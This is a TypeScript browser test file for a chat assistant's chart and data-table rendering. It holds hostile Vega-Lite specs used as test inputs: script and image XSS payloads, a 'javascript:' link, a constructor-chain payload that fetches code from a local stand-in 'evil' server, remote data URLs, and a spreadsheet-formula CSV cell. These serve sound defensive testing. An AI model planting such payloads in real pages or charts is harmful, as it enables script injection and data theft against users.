import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type ScriptedModel, startScriptedModel } from '../simulators/openai/scripted.ts'
import { answered, answers, ask, openBrowser, openPage, overflow, signUp, violations } from './browser.ts'
import { type Jarvis, startJarvis } from './jarvis.ts'

const hits: string[] = []
const stranger = createServer(({ url = '' }, response) => {
  hits.push(url)
  response.writeHead(200, { 'access-control-allow-origin': '*' }).end('[{"a":1,"b":2}]')
})
stranger.listen(0, '127.0.0.1')
await once(stranger, 'listening')
const evil = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`

const sql = 'select region, sum(units)::int as units from sales group by all order by 1'
const bars = { mark: 'bar', encoding: { x: { field: 'a' }, y: { field: 'b', type: 'quantitative' } } }
/** Charts that try to load, to run, or to work for ever. */
const hostile = [
  { ...bars, data: { url: `${evil}/data.json` } },
  { ...bars, data: { values: [{ a: 1, b: 2 }] }, mark: { type: 'image', url: `${evil}/image.png` } },
  { ...bars, data: { values: [{ a: 1, b: 2 }] }, encoding: { ...bars.encoding, href: { value: 'javascript:alert(1)' } } },
  { ...bars, data: { values: [{ a: '<img src=x onerror=alert(1)>', b: 2 }] }, title: '<script>alert(1)</script>' },
  { ...bars, data: { values: [{ a: 1 }] }, transform: [{ calculate: `datum.constructor.constructor('fetch("${evil}/code")')()`, as: 'b' }] },
  { ...bars, data: { values: [] }, transform: [{ lookup: 'a', from: { data: { url: `${evil}/lookup` }, key: 'a', fields: ['b'] } }] },
  { data: { values: [{ a: 1 }] }, mark: 'geoshape', projection: { type: 'mercator' }, transform: [{ filter: `data('${evil}')` }] },
  'no chart',
].map((spec) => `\`\`\`vega-lite\n${JSON.stringify(spec)}\n\`\`\``)

let jarvis: Jarvis
let model: ScriptedModel
let browser: Browser
beforeAll(async () => {
  model = await startScriptedModel(({ body }) => {
    const messages = (body['messages'] ?? []) as { role: string; content: unknown }[]
    const asked = JSON.stringify(messages.findLast(({ role }) => role === 'user')?.content ?? '')
    if (asked.includes('hostile')) return { text: hostile.join('\n\nNext.\n\n') }
    if (!asked.includes('sales') || messages.at(-1)?.role === 'tool') return { text: 'The north sold most.' }
    const chart = { kind: 'bar', x: 'region', y: 'units', title: 'Units by region' }
    return { toolCalls: [{ name: 'query_data', arguments: { sql, chart } }] }
  })
  ;[jarvis, browser] = await Promise.all([startJarvis({ OPENAI_API_KEY: 'sk-test', OPENAI_BASE_URL: model.url }), openBrowser()])
})
afterAll(async () => {
  await browser.close()
  await jarvis[Symbol.asyncDispose]()
  await model.close()
  stranger.close()
})

const shots = process.env['SCREENSHOTS']
const width = (image: unknown) => (image as { naturalWidth: number }).naturalWidth

test.each([
  ['light', 1280],
  ['dark', 360],
] as const)('a table is asked and answered by a chart, with its data and its SQL behind a click: %s, %i pixels wide', async (colorScheme, across) => {
  const { page, complaints } = await openPage(browser, jarvis.url, { colorScheme, viewport: { width: across, height: 900 } })
  await signUp(page)
  const [picker] = await Promise.all([page.waitForEvent('filechooser'), page.getByRole('button', { name: 'Attach files' }).click()])
  await picker.setFiles({ name: 'sales.csv', mimeType: 'text/csv', buffer: Buffer.from('region,units\nNorth,3\nSouth,4\nNorth,5\n=1+1,2\n') })
  await ask(page, 'Which region has the most sales?')
  await answered(page)
  const answer = answers(page).last()
  await answer.getByText('Asking the data').waitFor()
  const chart = answer.getByRole('img', { name: 'Units by region' })
  await chart.waitFor()
  await expect.poll(() => chart.evaluate(width)).toBeGreaterThan(150)
  expect(await answer.getByRole('table').isVisible()).toBe(false)
  await answer.getByText('3 rows').press('Enter')
  expect(await answer.getByRole('table').locator('tbody td').allTextContents()).toEqual(['=1+1', '2', 'North', '8', 'South', '4'])
  const [file] = await Promise.all([page.waitForEvent('download'), answer.getByRole('button', { name: 'Download table as CSV' }).click()])
  // A spreadsheet would have taken it for a formula.
  expect(readFileSync(await file.path(), 'utf8')).toBe("\uFEFFregion,units\r\n'=1+1,2\r\nNorth,8\r\nSouth,4")
  await answer.getByText('SQL', { exact: true }).press('Enter')
  await answer.getByRole('group', { name: 'Code in sql' }).getByText('group by all').waitFor()
  if (shots) await page.screenshot({ path: `${shots}/data-${across}.png` })
  expect(await overflow(page)).toBeLessThanOrEqual(0)
  expect(await violations(page)).toEqual([])
  expect(complaints).toEqual([])
})

test('a hostile chart loads nothing, runs nothing, and holds nothing up', async () => {
  const { page, complaints } = await openPage(browser, jarvis.url)
  const opened: string[] = []
  page.on('dialog', (dialog) => void (opened.push(dialog.message()), dialog.dismiss()))
  page.on('popup', (popup) => void opened.push(popup.url()))
  await signUp(page)
  await ask(page, 'Something hostile')
  await answered(page)
  const answer = answers(page).last()
  await expect.poll(() => answer.getByText('Drawing the chart…').count(), { timeout: 60_000 }).toBe(0)
  expect((await answer.getByRole('img', { name: /^Chart/ }).count()) + (await answer.getByText('could not be drawn').count())).toBe(hostile.length)
  expect(await answer.locator('script, iframe, object, embed, [onerror], [onload], a[href^="javascript:"]').count()).toBe(0)
  expect([opened, hits]).toEqual([[], []])
  expect(complaints).toEqual([])
  await fetch(`${evil}/control`)
  expect(hits).toEqual(['/control'])
})
